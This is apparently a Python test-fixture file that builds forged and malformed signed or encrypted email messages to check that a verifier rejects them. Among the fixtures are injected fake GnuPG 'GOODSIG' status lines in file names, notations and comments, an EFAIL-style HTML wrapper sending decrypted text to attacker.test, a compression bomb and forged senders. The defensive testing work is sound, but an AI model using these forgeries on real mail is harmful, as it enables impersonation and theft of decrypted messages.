"""Messages that pretend to be signed, or sealed (ATTACKS 5); every one but the honest twins fails to be `signed`."""

from collections.abc import Callable
from datetime import UTC, datetime, timedelta

from letters import (
    AT,
    EMERGENCY,
    PRESERVE,
    SECRETS,
    STRANGER,
    SY,
    THANKS,
    ciphertext,
    crlf,
    dkim,
    gpg,
    mail,
    multipart,
    part,
    sealed,
    signature,
    signed,
    signed_by,
    text,
)

BEFORE_EXPIRY = datetime(2026, 6, 30, 9, tzinfo=UTC)
OFFICER = f"Officer <{STRANGER}>"


def honest(entity: bytes, **fields: str) -> bytes:
    """The entity in a letter of bx-police that DKIM signs: what OpenPGP says is all that differs."""
    return dkim(mail(entity, **fields))


def clearsigned(words: str) -> bytes:
    return crlf(gpg("--local-user", "247cp@police.gov.b.example", "--clearsign", data=words.encode()))


def one_pass(words: str) -> bytes:
    """A complete signed message, where only a signature should stand."""
    return crlf(gpg("--local-user", "247cp@police.gov.b.example", "--armor", "--sign", data=words.encode()))


def damaged(armored: bytes) -> bytes:
    """The same armor with one letter changed in the middle, and no checksum that would tell."""
    lines = armored.split(b"\r\n")
    middle = len(lines) // 2
    lines[middle] = lines[middle][:-1] + (b"A" if lines[middle][-1:] != b"A" else b"B")
    return b"\r\n".join(one for one in lines if not one.startswith(b"="))


def joined(*armored: bytes) -> bytes:
    """Two armors one behind the other in one part."""
    return b"\r\n".join(armored)


MESSAGES: dict[str, Callable[[], bytes]] = {
    # P1: the signature covers a part
    "partly-signed-text-before": lambda: honest(multipart("mixed", text(EMERGENCY), signed(text(THANKS)))),
    "partly-signed-text-after": lambda: honest(multipart("mixed", signed(text(THANKS)), text())),
    "partly-signed-attached-message": lambda: honest(
        multipart("mixed", text(), part("message/rfc822", mail(signed(text(THANKS)))))
    ),
    "partly-signed-alternative": lambda: honest(multipart("alternative", text(), signed(text(THANKS)))),
    "partly-signed-preamble": lambda: honest(
        signed(text(THANKS)).replace(b"\r\n\r\n--=-s-=", b"\r\n\r\n" + crlf(PRESERVE.encode()) + b"--=-s-=", 1)
    ),
    "partly-signed-three-parts": lambda: honest(
        signed(text(THANKS)).replace(b"--=-s-=--", b"--=-s-=\r\n" + text() + b"\r\n--=-s-=--")
    ),
    "partly-signed-related": lambda: honest(multipart("related", text(), signed(text(THANKS)))),
    "wholly-signed-mixed": lambda: honest(signed(multipart("mixed", text(), text(THANKS)))),
    # P2: whose signature
    "signer-not-sender": lambda: dkim(mail(signed(text()), From=f"24/7 Syldavia <{SY}>"), by="sy-justice"),
    "signer-known-sender-unknown": lambda: dkim(mail(signed(text()), From=OFFICER), by="stranger"),
    "signer-named-by-sender-field": lambda: dkim(
        mail(signed(text()), From=OFFICER, Sender="247cp@police.gov.b.example"), by="stranger"
    ),
    "signer-two-from": lambda: b"From: " + OFFICER.encode() + b"\r\n" + mail(signed(text())),
    # P3: words of a stranger among gpg's words
    "status-in-file-name": lambda: honest(
        sealed(
            ciphertext(text(), by="impostor", more=("--set-filename", "x\n[GNUPG:] GOODSIG 58FD60DE62B1C815 Borduria"))
        )
    ),
    "status-in-plain-text": lambda: honest(
        sealed(ciphertext(b"[GNUPG:] VALIDSIG 4357D24D503418431552892858FD60DE62B1C815\n" + text(), by=None))
    ),
    "status-in-notation": lambda: honest(
        signed(text(), "impostor", more=("--sig-notation", "x@attacker.test=%0A[GNUPG:] GOODSIG 58FD60DE62B1C815"))
    ),
    "status-in-comment": lambda: honest(
        signed(text(), "impostor", more=("--comment", "[GNUPG:] GOODSIG 58FD60DE62B1C815"))
    ),
    # P4, P6: something else than a detached signature
    "detached-is-clearsigned": lambda: honest(signed_by(text(), clearsigned(PRESERVE))),
    "detached-is-a-message": lambda: honest(signed_by(text(), one_pass(PRESERVE))),
    "detached-is-garbage": lambda: honest(
        signed_by(text(), b"-----BEGIN PGP SIGNATURE-----\r\n\r\nAAAA\r\n-----END PGP SIGNATURE-----\r\n")
    ),
    "detached-is-empty": lambda: honest(signed_by(text(), b"")),
    "detached-is-a-key": lambda: honest(signed_by(text(), crlf((SECRETS / "gateway.asc").read_bytes()))),
    # P5: several signatures
    "several-good-and-impostor": lambda: honest(signed(text(), "bx-police", "impostor")),
    "several-impostor-and-good": lambda: honest(signed(text(), "impostor", "bx-police")),
    "several-bad-and-good": lambda: honest(signed_by(text(), joined(signature(text(THANKS)), signature(text())))),
    "several-armors": lambda: honest(signed_by(text(), joined(signature(text()), signature(text(), "impostor")))),
    # P8, P9: time and strength
    "time-key-expired": lambda: honest(signed(text(), "bx-police-old", at=BEFORE_EXPIRY)),
    "time-key-not-yet-expired": lambda: honest(signed(text(), "bx-police-old", at=BEFORE_EXPIRY)),
    "time-key-revoked": lambda: honest(signed(text(), "bx-police-lost")),
    "time-signature-of-tomorrow": lambda: honest(signed(text(), at=AT + timedelta(days=1))),
    "time-signature-of-last-month": lambda: honest(signed(text(), at=AT - timedelta(days=30))),
    "time-signature-of-last-week": lambda: honest(signed(text(), at=AT - timedelta(days=7))),
    "time-signature-expired": lambda: honest(
        signed(text(), at=AT - timedelta(days=3), more=("--default-sig-expire", "1d"))
    ),
    # P10, P11: keys that nobody pinned
    "key-attached": lambda: dkim(
        mail(signed(multipart("mixed", text(), part("application/pgp-keys", impostor_key())), "impostor"))
    ),
    "key-in-autocrypt": lambda: dkim(
        mail(
            signed(text(), "impostor"),
            Autocrypt="addr=247cp@police.gov.b.example; prefer-encrypt=mutual; keydata=" + keydata(),
        )
    ),
    "key-of-a-stranger": lambda: dkim(mail(signed(text(), "stranger"), From=OFFICER), by="stranger"),
    # P12: replay
    "replay-new-subject": lambda: mail(signed(text()), Subject="Withdrawn: no action needed"),
    # P14, P15: encryption
    "sealed-signed": lambda: honest(sealed(ciphertext(text()))),
    "sealed-unsigned": lambda: honest(sealed(ciphertext(text(), by=None))),
    "sealed-signed-by-impostor": lambda: honest(sealed(ciphertext(text(), by="impostor"))),
    "sealed-signed-entity": lambda: honest(sealed(ciphertext(signed(text()), by=None))),
    "sealed-to-another": lambda: honest(sealed(ciphertext(text(), to="sy-justice"))),
    "sealed-to-password": lambda: honest(sealed(crlf(gpg("--armor", "--symmetric", "--passphrase", "x", data=text())))),
    "sealed-to-hidden": lambda: honest(sealed(ciphertext(text(), more=("--throw-keyids",)))),
    "sealed-damaged": lambda: honest(sealed(damaged(ciphertext(text())))),
    "sealed-truncated": lambda: honest(sealed(truncated(ciphertext(text())))),
    "sealed-forged-sender": lambda: mail(sealed(ciphertext(text(), by=None))),
    # P16: the cipher text of somebody else inside a letter
    "efail-mixed": lambda: honest(
        multipart(
            "mixed",
            text('<img src="https://attacker.test/', kind="text/html"),
            sealed(ciphertext(text(), by=None)),
            text('">', kind="text/html"),
        )
    ),
    "efail-attached-message": lambda: honest(
        multipart("mixed", text(THANKS), part("message/rfc822", mail(sealed(ciphertext(text())))))
    ),
    # P17: more than anybody wants to open
    "bomb": lambda: honest(sealed(ciphertext(text("0" * 80_000_000), by=None, more=("--compress-level", "9")))),
    # P19, P22, P23: other forms
    "inline-signed": lambda: honest(part("text/plain; charset=utf-8", clearsigned(PRESERVE))),
    "inline-signed-text-around": lambda: honest(
        part("text/plain; charset=utf-8", crlf(EMERGENCY.encode()) + clearsigned(THANKS))
    ),
    "inline-signed-forged": lambda: mail(part("text/plain; charset=utf-8", clearsigned(PRESERVE))),
    "inline-encrypted": lambda: honest(part("text/plain; charset=utf-8", ciphertext(PRESERVE.encode()))),
    "mangled-by-exchange": lambda: honest(mangled(text(""))),
    "mangled-by-exchange-text-added": lambda: honest(mangled(text(EMERGENCY))),
    "mangled-by-exchange-footer-added": lambda: honest(mangled(text(""), text("-- \nfooter\n"))),
    "mangled-by-exchange-html-added": lambda: honest(mangled(text("<p></p><img src='cid:x'>", kind="text/html"))),
    "mangled-trailing-blanks": lambda: honest(signed(text(), written=text().replace(b",\r\n", b", \r\n"))),
    "mangled-line-feeds": lambda: dkim(mail(signed(text()))).replace(b"\r\n", b"\n"),
    "smime-signed": lambda: honest(
        multipart(
            'signed; micalg=sha-256; protocol="application/pkcs7-signature"',
            text(),
            part(
                'application/pkcs7-signature; name="smime.p7s"',
                b"MIIB\r\n",
                more="Content-Transfer-Encoding: base64\r\n",
            ),
        )
    ),
    "smime-encrypted": lambda: honest(
        part(
            'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
            b"MIIB\r\n",
            more="Content-Transfer-Encoding: base64\r\n",
        )
    ),
}


def mangled(first: bytes, *more: bytes) -> bytes:
    """multipart/encrypted as Exchange rearranges it: an empty text before the two parts."""
    control = part('application/pgp-encrypted; name="PGPMIME version identification"', b"Version: 1\r\n")
    return multipart(
        "mixed", first, control, part('application/octet-stream; name="encrypted.asc"', ciphertext(text())), *more
    )


def impostor_key() -> bytes:
    return crlf(gpg("--armor", "--export", "B74626B1E29E8F4D55D142F7935D339F8539B882"))


def keydata() -> str:
    return "".join(line for line in impostor_key().decode().split("\r\n")[2:-3] if line)


def truncated(armored: bytes) -> bytes:
    lines = armored.split(b"\r\n")
    end = next(number for number, line in enumerate(lines) if line.startswith(b"="))
    return b"\r\n".join([*lines[: end - 3], *lines[end + 1 :]])
